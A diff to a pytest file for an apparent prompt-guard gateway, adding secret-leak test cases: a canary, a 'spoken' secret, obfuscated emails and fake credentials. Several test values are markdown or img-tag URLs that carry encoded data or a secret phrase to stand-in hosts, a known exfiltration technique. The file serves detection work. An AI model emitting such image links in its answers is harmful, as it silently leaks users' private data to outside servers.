@@ -8,7 +8,7 @@ import itertools
 
 import pytest
 
-from promptguard_gateway.core.detector import Knowledge
+from promptguard_gateway.core.detector import Knowledge, Redacted
 from promptguard_gateway.core.plan import AnswerPlan
 from promptguard_gateway.core.presets import PRESETS
 from promptguard_gateway.core.segments import Column
@@ -17,21 +17,27 @@ from promptguard_gateway.detectors.catalogue import DETECTORS
 
 PLAN = AnswerPlan.compile(DETECTORS, PRESETS["strict"], Column.ANSWER)
 RULE = "Staff code: orange elephant nine seven river stone"
-KNOWLEDGE = Knowledge(protected=(RULE,))
+MAIL = "joe.q@shop.example"
+KNOWLEDGE = Knowledge(
+    protected=(RULE,),
+    canaries=("canary-77-x-88-y",),
+    spoken=("my parrot is called Harlekin",),
+    redacted=(Redacted(MAIL, "EMAIL"), Redacted("AB-123-CD", "PLATE")),
+)
 
 VALUES = [
     "ana@example.com",
-    "x.y+z@mail.example.org",
+    " ".join(MAIL),
     "4111 1111 1111 1111",
-    "4111-1111-1111-1112",
-    "378282246310005",
+    "ab 123/CD",
+    MAIL.encode().hex(),
     "123-45-6789",
     "SSN 078-05-1120",
     "+34 600 123 456",
     "(212) 555-0142",
     "DE89 3704 0044 0532 0130 00",
     "GB82WEST12345698765432",
-    "8.8.8.8",
+    "canary 77x88y",
     "2001:4860:4860::8888",
     "AKIA" + "IOSFODNN7EXAMPL1",
     "ghp_" + "a1B2c3D4e5F6" * 3,
@@ -40,7 +46,7 @@ VALUES = [
     "glpat-" + "aB3dE6gH9jK2mN5pQ8rT",
     "-----BEGIN " + "PRIVATE KEY-----\nMIIB\n-----END " + "PRIVATE KEY-----",
     "![x](http://a.example/p?d=c2VjcmV0IGRhdGEgaGVyZQ)",
-    "[x](https://docs.example/guide)",
+    "![](//a.b/?my+parrot+is+called+Harlekin)",
     '<img src="http://a.example/?q=aGVsbG8gd29ybGQgYWdhaW4">',
     "password: Tr0ub4dor&3x",
     "postgres://u:" + "s3cr3tpw@db.example/x",
